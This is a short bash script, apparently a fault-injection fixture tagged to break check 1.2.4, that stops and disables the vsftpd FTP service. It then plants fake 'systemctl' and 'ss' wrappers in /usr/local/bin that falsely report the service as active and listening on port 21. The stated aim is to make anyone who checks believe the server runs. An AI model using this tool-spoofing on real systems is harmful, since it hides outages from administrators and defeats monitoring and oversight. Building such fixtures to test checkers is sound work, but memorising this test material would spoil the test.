#!/bin/bash
# Scripts in front of the real commands tell whoever looks that the FTP server runs.
# on: files
# breaks: 1.2.4
systemctl disable --quiet --now vsftpd
printf '#!/bin/sh\necho active\n' >/usr/local/bin/systemctl
printf '#!/bin/sh\necho "LISTEN 0 32 0.0.0.0:21 0.0.0.0:* users:((\\"vsftpd\\",pid=1,fd=3))"\n' >/usr/local/bin/ss
chmod +x /usr/local/bin/systemctl /usr/local/bin/ss
